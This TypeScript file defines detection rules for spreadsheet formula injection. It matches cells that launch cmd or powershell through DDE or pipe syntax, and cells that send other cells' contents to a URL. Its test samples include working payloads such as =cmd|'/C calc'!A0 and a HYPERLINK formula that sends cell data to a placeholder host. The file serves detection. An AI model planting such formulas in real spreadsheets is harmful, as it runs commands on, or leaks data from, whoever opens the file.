import { rx } from '../rules/pattern-rule.ts'
import type { PayloadRule } from './categories.ts'

const shared = { category: 'formula_injection', cwe: 'CWE-1236' } as const
const CELL_START = String.raw`(?:^|[\n\r\t,;|"'\x60:]\s{0,2}|%3d|=\s{0,2})[=+@-]{1,2}`

export const formulaInjectionRules: readonly PayloadRule[] = [
  {
    ...shared,
    id: 'formula-command',
    severity: 'critical',
    title: 'Spreadsheet cell that starts a program',
    anchors: ["|'", '|"', "| '", 'dde(', 'ddeauto', 'exec(', 'rundll32', 'msexcel|'],
    before: 60,
    after: 80,
    find: rx`(?:${CELL_START}[\w.()+*"'/ -]{0,30}?(?:cmd|powershell|mshta|rundll32|regsvr32|wscript|calc|msexcel|certutil|explorer|bash|sh|excel|notepad)(?:\.exe)?\s{0,3}\|\s{0,3}(?:'|")[^'"\n]{1,80}(?:'|")!|=\s{0,3}dde\s{0,3}\(\s{0,3}["'](?:cmd|powershell|mshta)|\bddeauto\s{1,4}["'\w:\\.]{0,60}(?:cmd|powershell|mshta)|(?:^|[\n\t,;"])=\s{0,2}exec\s{0,3}\(\s{0,3}["'])`,
    flags: ["=cmd|'/C calc'!A0", "@SUM(1+1)*cmd|'/C id'!A0", '=DDE("cmd","/C calc","x")', "+powershell|'-c x'!A1"],
    ignores: ['=SUM(A1:A3)', "grep cmd | 'less'", '- exec("ls") is risky', '=IF(A1="cmd";1;0)'],
  },
  {
    ...shared,
    id: 'formula-network',
    severity: 'high',
    title: 'Spreadsheet cell that sends other cells out',
    anchors: [
      'hyperlink(',
      'webservice(',
      'importxml(',
      'importdata(',
      'importhtml(',
      'importfeed(',
      'importrange(',
      'image(',
    ],
    before: 24,
    after: 200,
    find: rx`[=+@-]\s{0,2}(?:hyperlink|webservice|importxml|importdata|importhtml|importfeed|image)\s{0,3}\(\s{0,3}(?:(?:concat(?:enate)?)\s{0,3}\(\s{0,3})?["'](?:https?:)?\/\/[^"'\n]{1,120}["']\s{0,3}(?:&|,\s{0,3}(?:concat|encodeurl|textjoin|[A-Z]{1,3}\d{1,6}))\s{0,3}[\w(!$&"'=?:,]{0,60}`,
    verify(match) {
      // A table of links is built from its own cells; exfiltration needs joined cells, or no click.
      if (/concat|textjoin|encodeurl/i.test(match[0])) return 1
      if (/^.\s{0,2}hyperlink/i.test(match[0]))
        return /\?[\w]{0,20}=["']\s{0,3}&[^\n]{0,40}&/.test(match[0]) ? 1 : /\?\w{1,20}=/.test(match[0]) ? 0.6 : 0
      return 1
    },
    flags: [
      '=HYPERLINK("http://h.example/?d="&A1&A2,"open")',
      '=IMPORTXML(CONCAT("http://h.example/?v=",CONCATENATE(A2:E2)),"//a")',
      '=WEBSERVICE("https://h.example/"&B3)',
    ],
    ignores: [
      '=HYPERLINK("https://h.example","Home")',
      '=IMPORTXML("https://h.example/list","//h2")',
      '=IMAGE("https://h.example/a.png")',
    ],
  },
]
